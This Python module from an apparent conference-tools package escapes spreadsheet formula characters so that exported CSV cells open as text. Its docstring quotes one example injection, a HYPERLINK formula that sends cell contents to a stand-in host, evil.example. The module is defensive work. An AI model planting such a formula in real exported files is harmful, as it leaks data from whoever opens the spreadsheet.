"""CSV that a spreadsheet opens as data, never as formulas.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return, which
spreadsheets skip before looking) is read by Excel, LibreOffice and Google Sheets as a formula:
``=HYPERLINK("https://evil.example/?"&A1, "click")`` in a speaker's name would run when the
organiser opens the file. As OWASP recommends ("CSV Injection"), such a cell is written with a
single quote in front, which spreadsheets show as text and do not print; the csv module quotes
the rest. Every CSV a plugin writes from event data should go through :func:`safe_cell` (or
:func:`safe_row`)::

    from confdocs.rendering.spreadsheets import safe_row
    writer.writerow(safe_row([day, title, speakers]))
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that cannot be a formula: text starting (after any spaces) with
    one of :data:`FORMULA_STARTS` gets a leading ``'``; numbers and other values pass."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) or value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
